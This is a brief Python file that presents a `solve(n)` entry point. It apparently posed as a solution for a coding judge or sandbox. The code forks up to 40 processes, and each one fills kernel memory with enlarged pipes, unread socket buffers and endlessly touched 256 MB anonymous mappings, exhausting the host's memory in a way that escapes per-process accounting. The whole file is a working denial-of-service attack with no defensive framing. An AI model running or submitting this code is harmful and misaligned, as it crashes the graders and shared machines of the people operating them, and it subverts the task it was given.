"""Fills memory that belongs to no process: pipes and sockets that nobody reads, many
mappings, and large tables of pages."""

import fcntl, mmap, os, socket


def fill():
    held = []
    try:
        while True:
            reading, writing = os.pipe()
            fcntl.fcntl(writing, 1031, 1 << 20)
            os.set_blocking(writing, False)
            held.append((reading, writing))
            os.write(writing, bytes(1 << 20))
            a, b = socket.socketpair()
            a.setblocking(False)
            held.append((a, b))
            while True:
                try:
                    a.send(bytes(1 << 16))
                except BlockingIOError:
                    break
    except (OSError, MemoryError):
        pass
    while True:
        try:
            block = mmap.mmap(-1, 1 << 28, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            for at in range(0, 1 << 28, 1 << 21):
                block[at] = 1
            held.append(block)
        except (OSError, MemoryError):
            pass


def solve(n):
    for _ in range(40):
        try:
            if os.fork() == 0:
                fill()
        except OSError:
            break
    fill()
